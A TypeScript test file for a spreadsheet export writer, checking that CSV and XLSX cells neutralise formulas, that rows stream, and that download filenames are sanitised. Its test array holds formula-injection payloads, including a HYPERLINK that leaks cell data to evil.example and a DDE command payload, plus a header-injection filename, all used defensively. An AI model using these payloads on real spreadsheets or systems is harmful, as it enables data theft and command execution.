/**
 * The export writer: formulas neutralised in CSV and XLSX (read back by csv-parse and exceljs), rows streamed (200,000
 * rows through, and a reader that stops early stops the query), a safe download name, and no other writer in src/.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Readable } from 'node:stream';
import { contentDisposition, csvStream, inPages, neutralise, type Row, xlsxStream } from './index.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  "=cmd|' /C calc'!A0",
];

async function bytes(s: Readable): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of s) parts.push(Buffer.from(c));
  return Buffer.concat(parts);
}

describe('export writer', () => {
  it('neutralises what a spreadsheet would run, and nothing else', () => {
    for (const f of FORMULAS) assert.equal(neutralise(f), `'${f}`, JSON.stringify(f));
    for (const ok of ['Amina Diallo', 'a=b', 'Minister - ICT', "'quoted", '', '3.5', 'عبد الله', '李明'])
      assert.equal(neutralise(ok), ok);
  });

  it('writes CSV with a BOM, a header, every formula as text, numbers as numbers', async () => {
    const rows: Row[] = FORMULAS.map((f, i) => ({ n: i - 1, text: f, empty: null }));
    const out = await bytes(csvStream({ columns: ['n', 'text', 'empty'], rows }));
    assert.ok(out.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])), 'UTF-8 BOM');
    const read = parse(out.toString('utf8'), { bom: true, columns: true, relax_quotes: true }) as Record<
      string,
      string
    >[];
    assert.equal(read.length, FORMULAS.length);
    read.forEach((r, i) => {
      assert.equal(r.text, `'${FORMULAS[i]}`);
      assert.equal(r.n, String(i - 1), 'a negative number is still a number');
      assert.equal(r.empty, '');
    });
    // Every text cell is quoted, so a separator or quote inside a cell cannot start a new one.
    assert.match(out.toString('utf8'), /\n-1,"'=HYPERLINK\(""http/);
  });

  it('writes XLSX whose cells are text as typed, formulas neutralised', async () => {
    const rows: Row[] = FORMULAS.map((f, i) => ({ n: i, text: f }));
    const out = await bytes(
      xlsxStream({
        columns: [{ key: 'n', header: '#' }, 'text'],
        rows: (async function* () {
          yield* rows;
        })(),
        sheet: 'HLT/04',
      }),
    );
    assert.equal(out.subarray(0, 2).toString(), 'PK');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(out as never);
    const ws = wb.worksheets[0];
    assert.equal(ws.name, 'HLT 04');
    assert.deepEqual([ws.getCell('A1').value, ws.getCell('B1').value], ['#', 'text']);
    FORMULAS.forEach((f, i) => {
      assert.equal(ws.getCell(`A${i + 2}`).value, i);
      // (an XML reader turns a CR into a line feed)
      assert.equal(ws.getCell(`B${i + 2}`).value, `'${f}`.replace(/\r/g, '\n'));
      assert.equal(ws.getCell(`B${i + 2}`).formula, undefined);
    });
    assert.ok(!out.includes('<f>'), 'no formula element in the sheet');
  });

  it('streams 200,000 rows (CSV) and pulls rows only as they are read (CSV and XLSX)', async () => {
    let made = 0;
    async function* many(n: number) {
      for (let i = 0; i < n; i++) {
        made++;
        yield { id: i, name: `Person ${i}`, note: i % 1000 === 0 ? '=1+1' : 'ok' };
      }
    }
    const columns = ['id', 'name', 'note'];
    let lines = 0;
    let injected = 0;
    for await (const chunk of csvStream({ columns, rows: many(200_000) })) {
      const s = String(chunk);
      lines += s.split('\n').length - 1;
      injected += s.split(`"'=1+1"`).length - 1;
    }
    assert.equal(lines, 200_001);
    assert.equal(injected, 200);

    // A larger sheet, written in many deflated pieces, reads back whole.
    const big = await bytes(xlsxStream({ columns, rows: many(20_000) }));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(big as never);
    assert.equal(wb.worksheets[0].rowCount, 20_001);
    assert.equal(wb.worksheets[0].getCell('B20001').value, 'Person 19999');
    assert.equal(wb.worksheets[0].getCell('C2').value, "'=1+1");

    for (const write of [csvStream, xlsxStream]) {
      made = 0;
      const s = write({ columns, rows: many(200_000) });
      const it = s[Symbol.asyncIterator]();
      await it.next();
      await new Promise((r) => setTimeout(r, 50));
      assert.ok(made < 50_000, `${write.name}: ${made} rows made before they were read`);
      s.destroy();
    }
  });

  it('reads keyset pages until a short page', async () => {
    const all = Array.from({ length: 25 }, (_, i) => ({ id: i + 1 }));
    const asked: (number | undefined)[] = [];
    const got: number[] = [];
    for await (const r of inPages<{ id: number }>(async (last) => {
      asked.push(last?.id);
      return all.filter((x) => x.id > (last?.id ?? 0)).slice(0, 10);
    }, 10))
      got.push(r.id);
    assert.deepEqual(
      got,
      all.map((x) => x.id),
    );
    assert.deepEqual(asked, [undefined, 10, 20]);
  });

  it('names the download safely', () => {
    assert.equal(
      contentDisposition('speakers-HLT-04.csv'),
      `attachment; filename="speakers-HLT-04.csv"; filename*=UTF-8''speakers-HLT-04.csv`,
    );
    const h = contentDisposition('liste "é"\r\n/../x;.csv');
    assert.ok(!/[\r\n]/.test(h));
    assert.equal(
      h,
      `attachment; filename="liste ______.._x_.csv"; filename*=UTF-8''liste%20%22%C3%A9%22___.._x%3B.csv`,
    );
  });

  it('is the only spreadsheet writer in src/', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (
          /\.tsx?$/.test(e.name) &&
          !e.name.includes('.test.') &&
          !p.includes(`platform${path.sep}export${path.sep}`)
        ) {
          if (/from ['"](csv-stringify|exceljs|xlsx)(\/[^'"]*)?['"]/.test(fs.readFileSync(p, 'utf8')))
            offenders.push(p);
        }
      }
    };
    walk('src');
    assert.deepEqual(offenders, []);
  });
});
